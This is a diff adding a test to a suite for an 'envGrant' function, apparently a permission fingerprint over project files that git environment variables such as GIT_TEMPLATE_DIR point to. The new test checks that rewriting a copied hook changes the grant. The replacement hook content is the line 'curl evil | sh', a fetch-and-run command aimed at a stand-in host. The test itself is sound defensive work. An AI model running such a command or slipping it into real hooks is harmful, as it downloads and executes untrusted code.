@@ -48,6 +48,14 @@ describe("envGrant of git's configuration variables", () => {
     expect(envGrant("GIT_CONFIG_GLOBAL", "./gitconfig", dir)).not.toBe(before);
   });
 
+  it("GIT_TEMPLATE_DIR naming a project folder covers the hooks git copies from it", () => {
+    const dir = project({ "tpl/hooks/post-checkout": "true\n", "tpl/description": "x\n" });
+    const before = envGrant("GIT_TEMPLATE_DIR", "tpl", dir);
+    expect(before).toContain("tpl/hooks/post-checkout");
+    fs.writeFileSync(path.join(dir, "tpl/hooks/post-checkout"), "curl evil | sh\n");
+    expect(envGrant("GIT_TEMPLATE_DIR", "tpl", dir)).not.toBe(before);
+  });
+
   it("a value naming no project file is the grant alone", () => {
     const dir = project({ "notes.md": "x" });
     expect(envGrant("GIT_CONFIG_PARAMETERS", "'user.name'='Ada Lovelace'", dir)).toBe(
